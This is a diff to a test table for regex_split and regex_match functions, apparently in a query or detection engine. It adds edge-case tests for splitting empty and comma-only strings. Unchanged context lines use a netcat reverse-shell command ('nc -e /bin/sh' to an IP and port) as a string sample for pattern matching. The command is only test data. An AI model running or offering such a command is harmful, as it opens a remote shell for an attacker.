@@ -105,6 +105,11 @@ FUNCTION_CASES = [
     ("regex_split('192.168.0.1', '\\.0', 0)", "192.168"),
     ("regex_split('a,,b,', ',', 1)", ""),      # empty tokens kept inside ...
     ("regex_split('a,,b,', ',', 3)", None),    # ... but no trailing empty token
+    ("regex_split('', ',', 0)", ""),           # no match: the whole value, even empty (libc++)
+    ("regex_split('', ',', 1)", None),
+    ("regex_split('abc', ',', 0)", "abc"),
+    ("regex_split(',', ',', 0)", ""),
+    ("regex_split(',', ',', 1)", None),
     ("regex_match('nc -e /bin/sh 1.2.3.4 80', '-e ([^ ]+)', 1)", "/bin/sh"),
     ("regex_match('nc -e /bin/sh', '-e ([^ ]+)', 0)", "-e /bin/sh"),
     ("regex_match('nc -l', '-e ([^ ]+)', 1)", None),
